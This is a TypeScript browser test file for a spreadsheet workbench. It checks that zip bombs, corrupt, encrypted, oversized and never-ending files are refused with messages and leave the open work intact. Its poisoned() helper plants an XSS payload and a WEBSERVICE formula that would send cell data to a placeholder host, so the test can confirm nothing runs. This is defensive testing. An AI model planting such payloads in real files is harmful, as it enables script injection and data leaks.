/** Files made to harm, broken or of another kind: said what, why and what to do, and what was open is still there. */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { strToU8, unzipSync, zipSync } from "fflate";
import type { Page } from "playwright-core";
import { ROOT } from "../../cli/support";
import { endlessColumns, endlessXls } from "../../support/endless-files";
import { sampleBytes } from "../../support/samples";
import { workbenchSuite, type DroppedFile } from "../../support/workbench-suite";

const suite = workbenchSuite();
const NAME = "评分表.xlsx";

const fixture = (name: string, as = name): DroppedFile => ({
  name: as,
  bytes: new Uint8Array(readFileSync(join(ROOT, "test", "fixtures", name))),
});

const bar = (page: Page) => page.locator('[data-bar="error"]');

const REFUSED: readonly (readonly [string, DroppedFile, RegExp])[] = [
  ["a zip bomb", fixture("bomb.xlsx"), /压缩炸弹|超出处理范围/],
  ["a truncated file", fixture("truncated.xlsx"), /文件不完整|文件已损坏/],
  ["a PDF under another name", fixture("paper.pdf", "评分表2.xlsx"), /这是 PDF 文件，不是电子表格/],
  ["a Word document without tables", fixture("document.docx", "评分表2.xlsx"), /没有表格/],
  ["an encrypted workbook", fixture("encrypted.xlsx"), /打开密码.*另存后再试/],
  ["a part with a DOCTYPE", fixture("doctype.xlsx"), /DOCTYPE/],
  ["an empty file", { name: "空.xlsx", bytes: new Uint8Array() }, /文件是空的/],
  ["a damaged file", fixture("corrupt.xlsx"), /文件已损坏/],
];

async function saysWhatIsLeft(page: Page, refused: string): Promise<void> {
  const said = await bar(page).innerText();
  expect(said).toContain(`没能打开“${refused}”`);
  expect(said).toContain("原来打开的内容没有变。");
}

it("refuses them one after another, and the work that was open goes on", async () => {
  const workbench = await suite.open();
  const { page } = workbench;
  await workbench.open({ name: NAME, bytes: sampleBytes("longgang-office-2022") });
  await workbench.check();
  const findings = await page.locator("[data-check]").count();
  for (const [what, file, said] of REFUSED) {
    await workbench.drop(file);
    await expect(
      bar(page)
        .filter({ hasText: said })
        .waitFor()
        .then(() => what),
    ).resolves.toBe(what);
    await saysWhatIsLeft(page, file.name);
    await bar(page).getByRole("button", { name: "关闭" }).click();
  }
  expect(await page.getByTitle(NAME).isVisible()).toBe(true);
  expect(await page.locator("[data-check]").count()).toBe(findings);
  expect(
    Buffer.compare((await workbench.download("edited")).bytes, sampleBytes("longgang-office-2022")),
  ).toBe(0);
});

it.each([
  ["an .xls whose reading never ends", endlessXls(), /文件读不完：读了 15 秒/],
  ["XML of 2003 that fills the memory", strToU8(endlessColumns()), /文件读不完/],
])("%s ends the worker that reads it, and the next file has another", async (_, bytes, said) => {
  const workbench = await suite.open();
  const { page } = workbench;
  await workbench.open({ name: NAME, bytes: sampleBytes("longgang-office-2022") });
  const [worker] = page.workers();
  const ended = new Promise((resolve) => worker!.once("close", resolve));
  await workbench.drop({ name: "旧.xls", bytes });
  await ended;
  await bar(page).filter({ hasText: said }).waitFor();
  await saysWhatIsLeft(page, "旧.xls");
  expect(await page.getByTitle(NAME).count()).toBe(1);
  await workbench.open({ name: "另一张.xlsx", bytes: sampleBytes("futian-org-2020") });
  expect(page.workers()).toHaveLength(1);
  expect(page.workers()[0]).not.toBe(worker);
});

it("asks how large a file is before it is read", async () => {
  const { page } = await suite.open();
  await page.evaluate(() => {
    const file = new File(["PK"], "大.xlsx");
    Object.defineProperty(file, "size", { value: 1_073_741_824 });
    Object.defineProperty(file, "arrayBuffer", { value: () => Promise.reject(new Error("was read")) });
    const data = new DataTransfer();
    data.items.add(file);
    Object.defineProperty(data, "files", { value: [file] });
    document.body.dispatchEvent(
      new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true }),
    );
  });
  await bar(page).filter({ hasText: "文件大于 100 MB" }).waitFor();
});

it("says what was dropped when it is no file", async () => {
  const workbench = await suite.open();
  await workbench.drop();
  // Nothing that the page could take is being dragged: the browser keeps it.
  expect(await bar(workbench.page).count()).toBe(0);
  await workbench.paste({ text: "没有表格" });
  await bar(workbench.page).filter({ hasText: "剪贴板里没有表格" }).waitFor();
});

/** The sample with other contents in some of its cells. */
function poisoned(): Uint8Array {
  const parts = unzipSync(sampleBytes("longgang-office-2022"));
  const sheet = new TextDecoder().decode(parts["xl/worksheets/sheet1.xml"]);
  const rows = [
    '<c r="L5" t="inlineStr"><is><t>&lt;img src=x onerror=alert(1)&gt;&lt;script&gt;alert(1)&lt;/script&gt;</t></is></c>',
    '<c r="M5" t="str"><f>_xlfn.WEBSERVICE("https://example.invalid/"&amp;A1)</f><v>x</v></c>',
    '<c r="N5" t="str"><f>HYPERLINK("https://example.invalid/","点这里")</f><v>点这里</v></c>',
  ].join("");
  const changed = sheet.replace(/(<row [^>]*r="5"[^>]*>.*?)(<\/row>)/s, `$1${rows}$2`);
  expect(changed).not.toBe(sheet);
  return zipSync({ ...parts, "xl/worksheets/sheet1.xml": strToU8(changed) });
}

it("runs nothing that stands in cells and fetches nothing that formulas name", async () => {
  const workbench = await suite.open();
  const { page } = workbench;
  let dialogs = 0;
  page.on("dialog", (dialog) => {
    dialogs++;
    void dialog.dismiss();
  });
  await workbench.open({ name: NAME, bytes: poisoned() });
  await workbench.check();
  await workbench.download("findings");
  expect(dialogs).toBe(0);
  expect(await page.locator("img[src='x']").count()).toBe(0);
});

it("opens a signed workbook and says that it cannot be downloaded with edits", async () => {
  const workbench = await suite.open();
  const { page } = workbench;
  const signed = fixture("signed.xlsx");
  await workbench.drop(signed);
  await page.getByText("可以查看和校验，但不能下载修改后的文件", { exact: false }).waitFor();
  const { bytes } = await workbench.download("edited");
  expect(Buffer.compare(bytes, signed.bytes)).toBe(0);
  await page.getByRole("button", { name: "下载", exact: true }).click();
  await page.locator('[data-download="native"]').click();
  await bar(page).filter({ hasText: "数字签名" }).waitFor();
});
